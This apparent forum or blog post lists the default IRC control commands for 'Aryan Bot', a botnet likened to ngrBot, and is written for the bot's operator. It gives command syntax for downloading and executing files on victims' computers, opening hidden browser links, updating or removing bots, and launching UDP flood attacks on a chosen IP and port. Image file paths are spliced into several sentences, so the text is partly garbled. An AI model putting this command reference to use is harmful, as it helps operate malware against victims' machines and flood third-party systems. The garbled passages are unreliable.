Aryan Bot Commands

This bot is spreading around and is same shit as ngrBot
here are commands for this crap

Please note that this list only contains the default commands and prefix's,
remember your commands and prefix and subsitute it accordingly.

@Info - Displays the location from where your bot is running from.

@Remove - Fully Removes the bot from the victim's computer.

@Join #Channel - Makes the bots join the channel you specified.

@Part - Will make them leave the channel this command was entered from only if the channel isn't the main one.
@Part #Channel - Will make the bots leave the channel that you specify, this can make them leave the main channel.

@Botkill - Will search for anremove all bots from the victim's computer.

@Reconnect - Will make bot disconnectfrom the server and reconnect in 30 seconds, very useful when migrating servers.

@Sort - Will make bots join a channel that corresponds with there country

@UnSort - Will make bots leave there sorted channel

@Visit [SHOW/HIDE] [URL] - Will launch the victim's default browser and have it open the specified link. The SHOW/HIDE parameter is
                           case sensitive.

@Download [URL] [0/1/2/3] - DownloadFile.
- 0 = Just download and don't execute it.
- 1 = Just download and execute the file.
- 2 = Update
- 3 = Safe update will simply replace the currently installed bot with the newly updated one and the update will take affect upon
      the next startup for thevictim's computer.

@Download.Stop - Will terminate any existing download threads.

@Udp.Start [IP] [PORT] [DELAY] [LENGTH] - UDP flood attack.

@Udp.Stop - Stops all currently running udpattacks.
Categories: Uncategorized